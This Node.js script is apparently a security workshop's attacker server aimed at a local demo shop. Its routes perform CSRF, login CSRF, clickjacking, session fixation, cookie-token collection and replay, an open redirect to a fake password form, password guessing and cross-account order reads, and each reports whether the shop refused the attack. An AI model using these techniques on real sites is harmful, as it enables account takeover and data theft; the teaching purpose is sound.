#!/usr/bin/env node
// The workshop's attacker site: a small node:http server on a second, cross-site origin
// (http://127.0.0.1:4000 while the shop is http://localhost:3000), one page per attack,
// each doing what a hostile page does, and each saying, live, whether the attack worked
// against the shop as it runs now. A second port on the shop's own host name
// (http://localhost:4001) plays a sibling site that can toss a cookie to the shop.
//
// Run by `npm run workshop`; on its own (the e2e spec does) with
//   SHOP_URL=http://localhost:3100 ATTACKER_PORT=4100 SIBLING_PORT=4101 \
//   SHOP_DATABASE=.tmp/e2e/shop.db SHOP_LOG=.tmp/e2e/server.log node scripts/workshop/attacker.mjs
import { createServer } from "node:http";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { escape, pages } from "./attacker-pages.mjs";
import { createReferee } from "./referee.mjs";
import { copyShopForm, framingPolicy, postShopForm, replayToken, setCookieValue } from "./shop-client.mjs";

/** The attacker's own account, for login CSRF: the victim is made to sign in to it. */
export const MALLORY = { name: "Mallory", email: "mallory@example.net", password: "mallory tosses seven copper coins" };
const ALICE = { email: "alice@example.com", password: "wonderland-demo-42" };
// The guesser's list: seven wrong passwords, then the right one. A throttle that works
// refuses the eighth guess too; a broken one lets it in.
const GUESSES = ["password123", "alice2024!", "wonderland", "letmein-please", "Alice-Liddell-1", "rabbit-hole-7", "queen-of-hearts", "wonderland-demo-42"];
const FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0";
const CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
// A form post the shop has not refused by this long after the browser sent it was let through.
const SETTLE_MS = 2000;

/** A browser that is not the victim's: another family than theirs. */
function otherBrowser(victimAgent) {
  return /Firefox\//.test(victimAgent) ? CHROME : FIREFOX;
}

const time = (iso) => new Date(iso).toLocaleTimeString("en-GB");

/**
 * @param {{ shopUrl: string, host?: string, attackerPort: number, siblingPort: number, databaseFile: string, logFile: string | null, cookieName?: string }} options
 */
export async function startAttacker({ shopUrl, host = "127.0.0.1", attackerPort, siblingPort, databaseFile, logFile, cookieName = "shop_session" }) {
  const shop = new URL(shopUrl);
  const attackerOrigin = `http://127.0.0.1:${attackerPort}`;
  // The sibling shares the shop's host name: cookies are scoped to a host, not to a port.
  const siblingOrigin = `http://${shop.hostname}:${siblingPort}`;
  const referee = createReferee({ databaseFile, logFile });
  const context = { shopUrl: shop.origin, attackerOrigin, siblingOrigin, cookieName };

  const planted = new Map(); // fixation: id -> { token, userAgent }
  const loot = []; // collector: newest first
  const landings = []; // open redirect: times the landing page was reached
  let malloryReady = false;

  async function ensureMallory() {
    if (malloryReady) return;
    const hidden = await copyShopForm(shop.origin, "/register", "email");
    // "Already exists" is fine too: the account is there either way.
    await postShopForm(shop.origin, "/register", hidden, MALLORY);
    malloryReady = true;
  }

  const json = (response, status, body) => {
    response.writeHead(status, { "Content-Type": "application/json", "Cache-Control": "no-store" });
    response.end(JSON.stringify(body));
  };
  const html = (response, body) => {
    response.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store" });
    response.end(body);
  };
  const verdict = (outcome, message) => ({ outcome, message });

  /** What the victim's stolen or planted token opens, in words. */
  async function tokenVerdict(token, userAgent, { since, waiting }) {
    const { email, deleted } = await replayToken(shop.origin, cookieName, token, userAgent);
    if (email) return verdict("worked", `Worked: the token opens ${email}'s account, from the attacker's own machine (the shop's /api/auth/session named the account).`);
    const revoked = referee.eventsSince(since, ["SESSION_REVOKED"]).filter((event) => event.reason === "browser_changed");
    const expired = referee.eventsSince(since, ["SESSION_EXPIRED"]);
    const why = revoked.length
      ? ` The referee: the shop's activity log says it revoked ${revoked.at(-1).email}'s session at ${time(revoked.at(-1).createdAt)} because another browser presented it; the victim is signed out too.`
      : expired.length
        ? ` The referee: the shop's activity log says ${expired.at(-1).email}'s session expired (${expired.at(-1).reason}) at ${time(expired.at(-1).createdAt)}, when this token was presented.`
        : "";
    if (deleted) return verdict("refused", `Refused: the token is dead. The shop's /api/auth/session answered null and told the browser to delete the cookie.${why}`);
    return verdict("waiting", waiting);
  }

  async function status(name, url) {
    const since = Number(url.searchParams.get("since") ?? Date.now());
    const sentAt = Number(url.searchParams.get("sent") ?? 0);
    const settled = sentAt > 0 && Date.now() - sentAt > SETTLE_MS;
    const victims = referee.signedInSessions();
    const signedIn = victims.length ? `Signed in to the shop right now: ${[...new Set(victims)].join(", ")}.` : "Nobody is signed in to the shop right now.";
    switch (name) {
      case "csrf": {
        const signOuts = referee.eventsSince(since, ["SIGN_OUT"]);
        if (signOuts.length) return { ...verdict("worked", `Worked: ${signOuts[0].email} was signed out by this page's post (the shop's activity log: Signed out at ${time(signOuts[0].createdAt)}).`), signedIn };
        const refused = referee.refusedWritesSince(since, "/sign-out");
        if (refused.length) return { ...verdict("refused", `Refused: the shop refused the cross-site post: 403. Its log: cross_site_write_refused, POST /sign-out, Origin ${refused[0].origin}.`), signedIn };
        if (settled) {
          return {
            ...verdict("refused", "Refused further in: the shop's first gate let the post through (no refusal in its log), yet nobody was signed out. The browser did not attach the victim's cookie to a cross-site post (SameSite=Lax), and /sign-out refuses cross-site posts itself."),
            signedIn,
          };
        }
        return { ...verdict("waiting", "The form is on its way to the shop..."), signedIn };
      }
      case "login-csrf": {
        const signIns = referee.eventsSince(since, ["SIGN_IN"]).filter((event) => event.email === MALLORY.email);
        if (signIns.length) return verdict("worked", `Worked: a browser was signed in to the attacker's account, ${MALLORY.email}, at ${time(signIns[0].createdAt)}. Whatever the victim saves now (an address, an order) lands in the attacker's account.`);
        const refused = referee.refusedWritesSince(since, "/login");
        if (refused.length) return verdict("refused", `Refused: the shop refused the cross-site post: 403. Its log: cross_site_write_refused, POST /login, Origin ${refused[0].origin}.`);
        if (settled) return verdict("refused", "Refused further in: the shop's first gate let the post through (no refusal in its log), yet no browser signed in to the attacker's account: Next.js refuses a server action whose Origin is another site.");
        return verdict("waiting", sentAt ? "The form is on its way to the shop..." : "Press the button to send the form.");
      }
      case "clickjacking": {
        const policy = await framingPolicy(shop.origin, "/account/sessions");
        if (policy.xFrameOptions || policy.frameAncestors) {
          return verdict("refused", `Refused: the shop forbids framing (X-Frame-Options: ${policy.xFrameOptions ?? "none"}; ${policy.frameAncestors ?? "no frame-ancestors"}). The browser shows an error in the frame, so the decoy covers nothing.`);
        }
        return verdict("worked", "Worked: the shop sends no framing policy. The frame shows the real sessions page under the decoy: a click on the decoy is a click on the shop's button.");
      }
      case "fixation": {
        const entry = planted.get(url.searchParams.get("id") ?? "");
        if (!entry) return verdict("waiting", "Prepare a token first.");
        return tokenVerdict(entry.token, entry.userAgent, {
          since,
          waiting: "Planted: the token is still a live guest session. Now sign in to the shop in this browser, then come back to this tab.",
        });
      }
      case "collector": {
        const latest = loot[0];
        if (!latest) return verdict("waiting", "Nothing collected yet. Run the script below in a shop tab's console.");
        return verdict(latest.outcome, latest.message);
      }
      case "redirect": {
        const landed = landings.filter((at) => at > since);
        if (landed.length) return verdict("worked", `Worked: the shop sent a signed-in visitor to the attacker's landing page at ${new Date(landed[0]).toLocaleTimeString("en-GB")}, straight after sign-in, where a fake "session expired" form waits for the password.`);
        const signIns = referee.eventsSince(since, ["SIGN_IN"]);
        if (signIns.length) return verdict("refused", `Refused: ${signIns[0].email} signed in through the link at ${time(signIns[0].createdAt)} and the shop kept them on its own pages: it ignored next= pointing to another site.`);
        return verdict("waiting", "Waiting for the victim to sign in through the link.");
      }
      default:
        return null;
    }
  }

  async function collect(url) {
    const cookies = url.searchParams.get("c") ?? "";
    const session = url.searchParams.get("s") ?? "";
    const userAgent = url.searchParams.get("ua") ?? CHROME;
    const fromCookie = cookies.split(";").map((pair) => pair.trim()).find((pair) => pair.startsWith(`${cookieName}=`))?.slice(cookieName.length + 1);
    let fromSession;
    try {
      fromSession = JSON.parse(session)?.sessionToken;
    } catch {
      fromSession = undefined;
    }
    const token = fromCookie ?? fromSession;
    const entry = { at: Date.now(), cookies, session, token: token ?? null };
    if (!token) {
      entry.outcome = "refused";
      entry.message = `Refused: the script got nothing that opens the account. document.cookie held ${cookies ? `only "${cookies}"` : "nothing"} (the session cookie is HttpOnly), and /api/auth/session answered without a token.`;
    } else {
      const where = fromCookie ? "document.cookie" : "/api/auth/session";
      const replay = await replayToken(shop.origin, cookieName, token, userAgent);
      entry.outcome = replay.email ? "worked" : "refused";
      entry.message = replay.email
        ? `Worked: the script read the session token from ${where}, and it opens ${replay.email}'s account from the attacker's server.`
        : `The script read a token from ${where}, but the shop no longer accepts it.`;
    }
    loot.unshift(entry);
  }

  async function guess() {
    const tries = [];
    let hidden = await copyShopForm(shop.origin, "/login", "email");
    for (const [index, password] of GUESSES.entries()) {
      const answer = await postShopForm(shop.origin, "/login", hidden, { email: ALICE.email, password }, { "user-agent": FIREFOX });
      const signedIn = answer.status === 303 && Boolean(setCookieValue(answer.cookies, cookieName));
      const said = signedIn ? "signed in" : (answer.html.match(/Too many attempts\. Try again in \d+ seconds?\./)?.[0] ?? (answer.html.includes("Incorrect email or password.") ? "Incorrect email or password." : `status ${answer.status}`));
      tries.push({ guess: index + 1, right: password === ALICE.password, said });
      if (signedIn) break;
      // The form's state changes with each answer; copy it again as a browser would reload it.
      hidden = await copyShopForm(shop.origin, "/login", "email");
    }
    const last = tries.at(-1);
    const firstBlock = tries.find((entry) => entry.said.startsWith("Too many attempts"));
    if (last.said === "signed in") {
      return { tries, ...verdict("worked", `Worked: guess ${last.guess}, the right password, signed the attacker in${firstBlock ? `, although the shop had answered "Too many attempts" since guess ${firstBlock.guess}` : "; no guess was ever slowed down"}.`) };
    }
    return { tries, ...verdict("refused", `Refused: from guess ${firstBlock?.guess ?? "?"} on the shop answered "Too many attempts", and it turned away even the right password (guess ${last.guess}) without checking it.`) };
  }

  /**
   * The attacker's own session, from this server: kept while the shop still names Mallory
   * with it, so that a second try signs nobody in again (each sign-in would be a SIGN_IN
   * event, which the login CSRF and open redirect pages watch for, and a new-device mail).
   */
  let malloryToken = null;
  async function signInAsMallory() {
    if (malloryToken && (await replayToken(shop.origin, cookieName, malloryToken, CHROME)).email === MALLORY.email) return malloryToken;
    await ensureMallory();
    const hidden = await copyShopForm(shop.origin, "/login", "email", { "user-agent": CHROME });
    const answer = await postShopForm(shop.origin, "/login", hidden, { email: MALLORY.email, password: MALLORY.password }, { "user-agent": CHROME });
    malloryToken = setCookieValue(answer.cookies, cookieName);
    if (!malloryToken) throw new Error(`the shop did not sign the attacker in (status ${answer.status})`);
    return malloryToken;
  }

  // Lab 9: the attacker, signed in to their own account, asks for the victim's order by id.
  async function readOrder() {
    const order = referee.latestOrderOf(ALICE.email);
    if (!order) return verdict("waiting", "Alice has no order yet. Sign in to the shop as alice, place an order, then press the button again.");
    const token = await signInAsMallory();
    const response = await fetch(new URL(`/orders/${order.id}`, shop.origin), { headers: { cookie: `${cookieName}=${token}`, "user-agent": CHROME }, redirect: "manual" });
    const page = await response.text();
    if (response.status === 200 && page.includes(escape(order.shipName))) {
      return verdict("worked", `Worked: signed in as ${MALLORY.email}, the attacker opened /orders/${order.id} and the shop showed alice's order, shipped to ${order.shipName} in ${order.shipCity}.`);
    }
    if (response.status === 404) {
      return verdict("refused", `Refused: the shop answered 404 to the attacker's account for /orders/${order.id}, exactly as for an order that does not exist: it looks an order up by its id and its owner together.`);
    }
    return verdict("waiting", `The shop answered ${response.status} to the attacker's request.`);
  }

  // Lab 2: a copy of the database (a backup, a replica, an SQL injection elsewhere) lists
  // the victim's sessions; the attacker presents each row's id as the session cookie.
  async function stolenDatabase() {
    const rows = referee.sessionRowsOf(ALICE.email);
    if (!rows.length) return verdict("waiting", "Alice has no live session to steal. Sign in to the shop as alice, then press the button again.");
    const ids = rows.map((row) => row.id);
    for (const row of rows) {
      const { email } = await replayToken(shop.origin, cookieName, row.id, row.userAgent ?? CHROME);
      if (email) return { ids, ...verdict("worked", `Worked: the stolen Session table keys each session by its token itself. Presented as the cookie, with the user agent stored beside it, the id ${row.id.slice(0, 12)}... opens ${email}'s account.`) };
    }
    return {
      ids,
      ...verdict("refused", `Refused: the stolen table lists ${rows.length} live session${rows.length === 1 ? "" : "s"} of alice's, but each id is the SHA-256 of a token, not the token. Presented as the cookie, none opens anything: the shop hashes what it receives, and a hash cannot be turned back into the token.`),
    };
  }

  async function readBody(request) {
    let body = "";
    for await (const chunk of request) {
      body += chunk;
      if (body.length > 100_000) throw new Error("body too large");
    }
    return body ? JSON.parse(body) : {};
  }

  async function attackerRoute(request, response) {
    const url = new URL(request.url ?? "/", attackerOrigin);
    const route = `${request.method} ${url.pathname}`;
    if (route.startsWith("GET /status/")) {
      const answer = await status(url.pathname.slice("/status/".length), url);
      return answer ? json(response, 200, answer) : json(response, 404, { error: "no such attack" });
    }
    switch (route) {
      case "GET /":
        return html(response, pages.index(context));
      case "GET /csrf":
        return html(response, pages.csrf(context, Date.now()));
      case "GET /login-csrf": {
        await ensureMallory();
        const hidden = await copyShopForm(shop.origin, "/login", "email");
        return html(response, pages.loginCsrf(context, Date.now(), hidden, MALLORY));
      }
      case "GET /clickjacking":
        return html(response, pages.clickjacking(context));
      case "GET /fixation":
        return html(response, pages.fixation(context, Date.now()));
      case "POST /fixation/prepare": {
        const { userAgent } = await readBody(request);
        const agent = typeof userAgent === "string" && userAgent ? userAgent.slice(0, 512) : CHROME;
        // A guest session of the attacker's own, from adding something to a cart, made with
        // the victim's user agent so that it looks like the victim's browser later.
        const product = (await (await fetch(shop.origin)).text()).match(/href="\/products\/([a-z0-9-]+)"/)?.[1];
        const hidden = await copyShopForm(shop.origin, `/products/${product}`, "quantity", { "user-agent": agent });
        const answer = await postShopForm(shop.origin, `/products/${product}`, hidden, { quantity: "1" }, { "user-agent": agent });
        const token = setCookieValue(answer.cookies, cookieName);
        if (!token) return json(response, 502, { error: `The shop started no guest session (status ${answer.status}).` });
        const id = crypto.randomUUID();
        planted.set(id, { token, userAgent: agent });
        return json(response, 200, { id, plantUrl: `${siblingOrigin}/plant?id=${id}` });
      }
      case "GET /collector":
        return html(response, pages.collector(context, loot));
      case "GET /collect":
        await collect(url);
        response.writeHead(303, { Location: "/collector" });
        return response.end();
      case "GET /redirect":
        return html(response, pages.redirect(context, Date.now()));
      case "GET /landing":
        landings.push(Date.now());
        return html(response, pages.landing(context));
      case "GET /replay":
        return html(response, pages.replay(context, loot.find((entry) => entry.token)?.token ?? ""));
      case "POST /replay": {
        const since = Date.now() - 1;
        const { token, browser, userAgent } = await readBody(request);
        if (typeof token !== "string" || !/^[A-Za-z0-9_-]{1,200}$/.test(token.trim())) return json(response, 400, verdict("waiting", "Paste a session token first."));
        const victimAgent = typeof userAgent === "string" && userAgent ? userAgent.slice(0, 512) : CHROME;
        const agent = browser === "attacker" ? otherBrowser(victimAgent) : victimAgent;
        return json(response, 200, await tokenVerdict(token.trim(), agent, { since, waiting: "The token names no signed-in session: a guest's, perhaps." }));
      }
      case "GET /stolen-database":
        return html(response, pages.stolenDatabase(context));
      case "POST /stolen-database":
        return json(response, 200, await stolenDatabase());
      case "GET /orders":
        return html(response, pages.orders(context, MALLORY.email));
      case "POST /orders":
        return json(response, 200, await readOrder());
      case "GET /guessing":
        return html(response, pages.guessing(context, ALICE.email, GUESSES.length));
      case "POST /guessing":
        return json(response, 200, await guess());
      default:
        response.writeHead(404, { "Content-Type": "text/plain" });
        return response.end("Not found\n");
    }
  }

  // The sibling: a page on the shop's host name that sets the shop's session cookie.
  function siblingRoute(request, response) {
    const url = new URL(request.url ?? "/", siblingOrigin);
    const entry = url.pathname === "/plant" ? planted.get(url.searchParams.get("id") ?? "") : undefined;
    if (!entry) {
      response.writeHead(404, { "Content-Type": "text/plain" });
      return response.end("Nothing to plant.\n");
    }
    response.writeHead(303, {
      "Set-Cookie": `${cookieName}=${entry.token}; Path=/; HttpOnly; SameSite=Lax`,
      Location: new URL("/login", shop.origin).href,
    });
    response.end();
  }

  const handle = (route) => (request, response) => {
    Promise.resolve(route(request, response)).catch((error) => {
      if (!response.headersSent) json(response, 500, verdict("waiting", `The attacker site failed: ${error.message}`));
      else response.end();
    });
  };
  const attacker = createServer(handle(attackerRoute));
  const sibling = createServer(handle(siblingRoute));
  await Promise.all([
    new Promise((resolve) => attacker.listen(attackerPort, host, resolve)),
    new Promise((resolve) => sibling.listen(siblingPort, host, resolve)),
  ]);
  return {
    url: attackerOrigin,
    siblingUrl: siblingOrigin,
    close: () => Promise.all([attacker, sibling].map((server) => new Promise((resolve) => server.close(resolve)))),
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { SHOP_URL = "http://localhost:3000", ATTACKER_PORT = "4000", SIBLING_PORT, SHOP_DATABASE, SHOP_LOG } = process.env;
  if (!SHOP_DATABASE) {
    console.error("Set SHOP_DATABASE to the shop's SQLite file (and SHOP_LOG to its log), for the referee.");
    process.exit(2);
  }
  const started = await startAttacker({
    shopUrl: SHOP_URL,
    attackerPort: Number(ATTACKER_PORT),
    siblingPort: Number(SIBLING_PORT ?? Number(ATTACKER_PORT) + 1),
    databaseFile: path.resolve(SHOP_DATABASE),
    logFile: SHOP_LOG ? path.resolve(SHOP_LOG) : null,
  });
  console.log(`Attacker: ${started.url}`);
  for (const signal of ["SIGINT", "SIGTERM"]) process.on(signal, () => void started.close().then(() => process.exit(0)));
}
